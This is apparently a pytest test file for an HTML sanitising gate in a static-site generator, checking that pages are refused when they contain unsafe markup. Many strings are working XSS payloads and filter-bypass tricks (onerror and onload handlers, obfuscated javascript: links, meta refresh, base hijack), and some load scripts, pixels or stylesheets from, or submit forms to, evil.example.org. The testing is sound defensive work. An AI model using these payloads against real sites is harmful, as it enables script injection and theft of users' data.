"""The output gate: what may stand in a body or a document, and what is refused."""

import pytest

from gate_command import write_page
from gate_faults import OF_THE_WHOLE, PIECES
from memory_networks import make_member, make_outputs
from shelfmates.render.gate.document import read_document
from shelfmates.render.gate.gate import Gate, GateError, PageGate, check_document, list_scripts
from shelfmates.render.output_types import EDITORS_TEXT

REFUSED = {
    "a script": "<script>alert(1)</script>",
    "a script of elsewhere": '<script src="https://evil.example.org/x.js"></script>',
    "a style": "<style>*{display:none}</style>",
    "a frame": '<iframe src="/"></iframe>',
    "an object": '<object data="x"></object>',
    "an embedded thing": '<embed src="x">',
    "another base": '<base href="https://evil.example.org/">',
    "a refresh": '<meta http-equiv="refresh" content="0">',
    "a form": '<form action="/x"></form>',
    "a field": '<input name="x">',
    "mathematics": "<math></math>",
    "a foreign object": "<foreignObject></foreignObject>",
    "a template": "<template></template>",
    "an event": '<p onclick="alert(1)">x</p>',
    "an event of a picture": '<img src="x" onerror="alert(1)">',
    "an event in capitals": '<p OnClick="alert(1)">x</p>',
    "a style attribute": '<p style="x">x</p>',
    "a javascript link": '<a href="javascript:alert(1)">x</a>',
    "a javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a javascript link in entities": '<a href="javascript&#58;alert(1)">x</a>',
    "a javascript link behind a class": '<a class="x" href="javascript:alert(1)">x</a>',
    "a data link": '<a href="data:text/html,x">x</a>',
    "a link to the reader's computer": '<a href="https://printer.local/">x</a>',
    "a link to the reader's computer and to a place there": '<a href="https://printer.local#x">x</a>',
    "a link to a part of a page with a space": '<a href="https://example.org/#a b">x</a>',
    "a vbscript link": '<a href="vbscript:x">x</a>',
    "a picture of data": '<img src="data:image/svg+xml,x">',
    "a link of another kind": '<a xlink:href="javascript:alert(1)">x</a>',
    "an attribute without quotes": "<p class=x>x</p>",
    "an attribute in single quotes": "<p class='x'>x</p>",
    "an element in capitals": "<SCRIPT>x</SCRIPT>",
    "a comment": "<!-- x -->",
    "a comment like ours": "<!--editors-text -->",
    "a tag that is never closed": "<p>x</p><p",
    "a lone sign": "<p>1 < 2</p>",
    "a tag in a tag": '<p class="<b>">x</p>',
    "a declaration": "<!doctype html>",
    "an instruction": "<?php x ?>",
    "a slash for a space": "<svg/onload=alert(1)>",
    "an attribute glued to another": '<p class="a"onclick="x">x</p>',
    "a line break before an event": '<p\nonclick="x">x</p>',
}


@pytest.mark.parametrize("html", REFUSED.values(), ids=REFUSED.keys())
def test_a_body_is_refused_that_holds(html):
    with pytest.raises(GateError):
        Gate().check(f'<h1 id="sm-title">x</h1>{html}')


@pytest.mark.parametrize("html", REFUSED.values(), ids=REFUSED.keys())
def test_what_was_right_before_opens_the_gate_for_nothing_else(html):
    gate = Gate()
    gate.check('<p class="sm-x">x</p><a href="https://example.org/">x</a>')
    with pytest.raises(GateError):
        gate.check(html)


@pytest.mark.parametrize("name", sorted(PIECES.keys() - OF_THE_WHOLE))
def test_a_body_is_refused_into_which_somebody_planted(name):
    with pytest.raises(GateError):
        Gate(base="https://example.org/").check(f'<h1 id="sm-title">x</h1>{PIECES[name]}')


IN_A_FORM = [
    '<form class="sm-form" novalidate data-form><fieldset><legend>x</legend></fieldset></form>',
    '<label for="sm-f-a">x</label><input type="text" id="sm-f-a" name="a" autocomplete="name" aria-required="true">',
    '<select name="a"><option value="" selected>x</option></select><textarea rows="3"></textarea><output>x</output>',
    '<p hidden data-word="x" aria-live="polite">x</p>',
]


@pytest.mark.parametrize("html", IN_A_FORM)
def test_the_page_of_a_form_may_hold(html):
    Gate(has_forms=True).check(html)


@pytest.mark.parametrize("html", IN_A_FORM[:3])
def test_any_other_page_may_hold_no_form(html):
    with pytest.raises(GateError):
        Gate().check(html)


EDITORS_AT_A_FORM = {'<h1 id="zz">x</h1>': True, IN_A_FORM[0]: False, IN_A_FORM[2]: False}
"""Text of an editors' page in the place of a page with a form → whether it may stand there."""


@pytest.mark.parametrize("html", EDITORS_AT_A_FORM)
def test_an_editors_page_in_the_place_of_a_form_may_hold_what_editors_write(html):
    document = read_document(write_page(html).replace("<article", '<a href="#zz">x</a><article'))
    wrong = [*PageGate().find_unexpected(document, has_forms=True)]
    assert (wrong == []) == EDITORS_AT_A_FORM[html], wrong


REFUSED_IN_A_FORM = {name: html for name, html in REFUSED.items() if name != "a field"} | {
    "a form that is sent elsewhere": '<form method="post"></form>',
    "a button that sends it elsewhere": '<button type="submit" formaction="https://evil.example.org/">x</button>',
    "a field that is not seen": '<input type="hidden" name="x">',
    "a password": '<input type="password">',
    "a file": '<input type="file">',
    "a picture that sends": '<input type="image" src="x">',
    "a field of no kind": '<input name="x">',
    "data that the theme reads": '<p data-md-component="x">x</p>',
}


@pytest.mark.parametrize("html", REFUSED_IN_A_FORM.values(), ids=REFUSED_IN_A_FORM.keys())
def test_the_page_of_a_form_may_not_hold(html):
    with pytest.raises(GateError):
        Gate(has_forms=True).check(html)


ALLOWED = [
    "<p>plain</p>",
    "1 &lt; 2 &amp; 3",
    EDITORS_TEXT,
    '<a href="../../areas/ashe/">x</a>',
    '<a href="./">x</a>',
    '<a href="#sm-letter-a">x</a>',
    '<a href="members/a:b/">x</a>',
    '<a href="https://example.org/?q=a:b&amp;c" rel="noopener nofollow ugc">x</a>',
    '<a href="https://example.org/blob/main/members.yaml#L7" rel="edit noopener">x</a>',
    '<a href="mailto:ana@example.org?subject=%5Bana%5D">x</a>',
    '<a href="x.vcf" download>x</a>',
    '<svg viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0Z"></path></svg>',
    '<ol start="2"><li>x</li></ol>',
    "<br><br />",
    f'<span hidden data-sm-says="blocked">{"A message in a language with long words. " * 3}</span>',
]


@pytest.mark.parametrize("html", ALLOWED)
def test_a_body_may_hold(html):
    gate = Gate()
    gate.check(html)
    gate.check(html)


def test_every_page_of_a_rich_network_passes():
    member = make_member(
        bio="**A** [link](https://example.org/?a=1&b=2 'title')\n\n- `code`\n\n> said <https://example.org/x>\n\n3) three",
        topics=["weeding"],
        links={"website": "https://example.org/?a=%22&b=%27c", "mastodon": "@a@b.example.org"},
    )
    assert all(page.body for page in make_outputs(member, forge={"repository": "a/b"}).pages)


HEAD = '<script src="../assets/bundle.js"></script><script type="application/json">{}</script>'
SCRIPTS = list_scripts(HEAD)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script src="other.js"></script>',
        '<script src="//evil.example.org/bundle.js"></script>',
        '<script type="module">alert(1)</script>',
        "<iframe></iframe>",
        '<object data="x"></object>',
        '<embed src="x">',
        '<base href="https://evil.example.org/">',
        '<meta http-equiv="refresh" content="0; url=x">',
        "<math></math>",
        '<img src="https://evil.example.org/pixel.png" alt="">',
        '<img src="//evil.example.org/pixel.png" alt="">',
        '<img src="/\\evil.example.org/pixel.png" alt="">',
        '<img src="/&#9;/evil.example.org/pixel.png" alt="">',
        '<img srcset="https://evil.example.org/pixel.png" src="x" alt="">',
        '<video poster="https://evil.example.org/pixel.png"></video>',
        '<p style="background: url(https://evil.example.org/)">x</p>',
        "<style>@import 'https://evil.example.org/';</style>",
        '<link rel="stylesheet" href="https://evil.example.org/x.css">',
        '<video src="https://evil.example.org/x"></video>',
        '<input type="image" src="https://evil.example.org/x">',
        '<p onclick="x">x</p>',
        "<svg/onload=alert(1)>",
        '<a href=" JavaScript:alert(1)">x</a>',
        '<a href="java&#9;script:alert(1)">x</a>',
        '<form action="javascript:alert(1)"></form>',
        '<a href="data:text/html,x">x</a>',
    ],
)
def test_a_document_is_refused_that_holds(html):
    assert list(check_document(write_page(html, HEAD), scripts=SCRIPTS))


@pytest.mark.parametrize(
    "html",
    [
        "<p>plain</p>",
        '<img src="../picture.png" alt="">',
        '<a href="https://example.org/">x</a>',
        '<p class="admonition-title">x</p><pre><code class="language-py">x</code></pre>',
        '<table><thead><tr><th align="left">x</th></tr></thead><tbody><tr><td>x</td></tr></tbody></table>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup><ol><li id="fn:1">x</li></ol>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1)</p>",
    ],
)
def test_a_document_may_hold(html):
    assert not list(check_document(write_page(html, HEAD), scripts=SCRIPTS))


def test_a_script_of_the_theme_is_known_at_every_depth_of_the_site():
    scope = '<script>__md_scope=new URL("{}",location)</script>'
    assert list_scripts(scope.format("..")) == list_scripts(scope.format("../..")) == list_scripts(scope.format("."))
